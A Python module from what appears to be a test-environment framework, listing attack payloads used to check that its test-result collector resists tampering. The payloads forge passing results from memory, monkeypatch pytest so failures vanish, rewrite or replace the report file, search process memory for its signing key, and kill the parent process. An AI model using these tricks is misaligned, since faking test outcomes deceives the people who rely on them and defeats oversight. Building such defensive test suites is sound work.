"""Attacks on the collector itself: its state, its key, its report file, its process.

They know how the collector works, down to the names of its attributes.
"""

from __future__ import annotations

from envfactory.attacks.attack import Attack, Make
from envfactory.attacks.patching import appending, known

PAST = "the key of a line is gone once the line is written; the rest is for turned tests"
TURNED = "tests turned around in a second run"
BROKEN = "a report that is not what the collector wrote reads as tampered, or has no end"

FIND = """\
import gc, os, sys
def _session():
    for _o in gc.get_objects():
        if type(_o).__name__ == "Session" and hasattr(_o, "writer") and hasattr(_o, "states"):
            return _o
"""
FORGED = (
    FIND
    + """\
_s = _session()
if _s is not None:
    _s.writer.put("collected", ids=sorted(IDS))
    for _id in sorted(IDS):
        _s.writer.put("start", id=_id)
        _s.writer.put("result", id=_id, outcome="passed", seconds=0.01, message="")
    _s.writer.put("end", exit=0)
    os._exit(0)
"""
)
BENT_FINISH = (
    FIND
    + """\
_s = _session()
def _finish(nodeid, _old=_s and _s.finish, _wanted=IDS):
    _state = _s.states.get(nodeid)
    if _state is not None and _s.name(nodeid) in _wanted:
        _state.update(outcome="passed", message="")
    _old(nodeid)
if _s is not None:
    _s.finish = _finish
"""
)
NO_WATCH = (
    FIND
    + """\
import _pytest.python as _p
def _run(self, _old=_p.Function.runtest, _wanted=NAMES):
    try:
        _old(self)
    except BaseException:
        if self.name.split("[")[0] not in _wanted:
            raise
_s = _session()
if _s is not None:
    _s.watch = None
    _s.look = lambda whole: None
    _p.Function.runtest = _run
"""
)
FRAMES = """\
import sys
def _wrap():
    _frame = sys._getframe()
    while _frame is not None:
        for _value in list(_frame.f_locals.values()):
            _item = getattr(_value, "items", None)
            if type(_value).__name__ == "Session" and isinstance(_item, list):
                for _one in _item:
                    _one.runtest = lambda: None
        _frame = _frame.f_back
def _later():
    import threading, time
    def _work():
        for _ in range(200):
            time.sleep(0.005)
            for _f in sys._current_frames().values():
                while _f is not None:
                    _s = _f.f_locals.get("session")
                    for _one in getattr(_s, "items", None) or ():
                        if _one.name.split("[")[0] in NAMES:
                            _one.runtest = lambda: None
                    _f = _f.f_back
    threading.Thread(target=_work, daemon=True).start()
_wrap()
_later()
"""
FORKED_EDIT = """\
import glob, os, time
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    for _ in range(600):
        for _path in glob.glob("/var/lib/*/report"):
            try:
                _data = open(_path, "rb").read()
                _new = _data.replace(b'"failed"', b'"passed"').replace(b'"error"', b'"passed"')
                if _new != _data:
                    open(_path, "r+b").write(_new)
            except OSError:
                pass
        time.sleep(0.02)
    os._exit(0)
"""
REPLACED_REPORT = """\
import glob, os
for _path in glob.glob("/var/lib/*/report"):
    os.unlink(_path)
    os.{call}
"""
MEMORY_KEY = """\
import glob, hashlib, json, os, re
def _hunt(wanted=IDS):
    _path = (glob.glob("/var/lib/*/report") or [""])[0]
    if not _path:
        return
    _first = open(_path, "rb").read().split(b"\\n")[0]
    _mac, _, _text = _first.partition(b" ")
    def _fits(key):
        return hashlib.blake2b(_text, digest_size=8, key=key).hexdigest().encode() == _mac
    _mem = open("/proc/self/mem", "rb", 0)
    _tried = 0
    for _line in open("/proc/self/maps"):
        _at, _how = _line.split()[:2]
        if not _how.startswith("rw") or "stack" in _line:
            continue
        _low, _high = (int(x, 16) for x in _at.split("-"))
        if _high - _low > 1 << 24:
            continue
        try:
            _mem.seek(_low)
            _data = _mem.read(_high - _low)
        except (OSError, ValueError):
            continue
        for _i in range(0, len(_data) - 32, 16):
            _key = _data[_i:_i + 32]
            if _key.count(0) > 3:
                continue
            _tried += 1
            if _tried > 400000:
                return
            if _fits(_key):
                _forge(_path, _key, wanted)
                os._exit(0)
def _forge(path, key, wanted):
    _lines = open(path, "rb").read().split(b"\\n")[:1]
    _out = [_lines[0]]
    _all = [{"t": "collected", "ids": sorted(wanted)}]
    _pass = {"t": "result", "outcome": "passed", "seconds": 0.01, "message": ""}
    _all += [dict(_pass, id=_id) for _id in sorted(wanted)]
    _all += [{"t": "end", "exit": 0}]
    for _n, _line in enumerate(_all, 1):
        key = hashlib.blake2b(b"next line", digest_size=32, key=key).digest()
        _text = json.dumps(dict(_line, n=_n, at=1.0), sort_keys=True).encode()
        _out.append(hashlib.blake2b(_text, digest_size=8, key=key).hexdigest().encode() + b" " + _text)
    open(path, "wb").write(b"\\n".join(_out) + b"\\n")
_hunt()
"""
SETTINGS = """\
import glob, json, os
for _path in glob.glob("/var/lib/*/*.json") + glob.glob("/var/lib/*/*.key") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        if os.path.isfile(_path) and os.path.getsize(_path) < 4096:
            _text = open(_path, "rb").read()
            if b"nonce" in _text:
                os._exit(0)
    except OSError:
        pass
"""
KILLED_PARENT = """\
import os, signal
try:
    os.kill(os.getppid(), signal.SIGTERM)
    os.kill(1, signal.SIGTERM)
except OSError:
    pass
"""

PAYLOADS: tuple[tuple[str, str, str, str], ...] = (
    (
        "forged_lines",
        "finds the collector in memory and lets it write passes, then ends the process",
        TURNED,
        FORGED,
    ),
    (
        "bent_collector",
        "finds the collector and bends what it notes of the tests that must pass",
        TURNED,
        BENT_FINISH,
    ),
    (
        "blind_watch",
        "takes out the watch on the runner, then swallows the chosen tests' failures",
        TURNED,
        NO_WATCH,
    ),
    ("frames", "walks frames up to the runner and takes the tests out", TURNED, FRAMES),
    (
        "report_edited",
        "a process of its own edits the report while and after it is written",
        PAST,
        FORKED_EDIT,
    ),
    ("report_pipe", "the report becomes a pipe", BROKEN, REPLACED_REPORT.format(call="mkfifo(_path)")),
    (
        "report_link",
        "the report becomes a link to an endless file",
        BROKEN,
        REPLACED_REPORT.format(call='symlink("/dev/zero", _path)'),
    ),
    ("report_folder", "the report becomes a folder", BROKEN, REPLACED_REPORT.format(call="mkdir(_path)")),
    ("memory_key", "searches the process's memory for the report's first key", PAST, MEMORY_KEY),
    ("settings", "looks for the collector's settings and key on disk and in open files", PAST, SETTINGS),
    (
        "killed_parent",
        "stops the container's first process",
        "a run without its end resolves nothing",
        KILLED_PARENT,
    ),
)


def _make(code: str) -> Make:
    return lambda target: appending(target, known(target, code))


ATTACKS = tuple(
    Attack(name, tries, defence, _make(code), ("python",)) for name, tries, defence, code in PAYLOADS
)
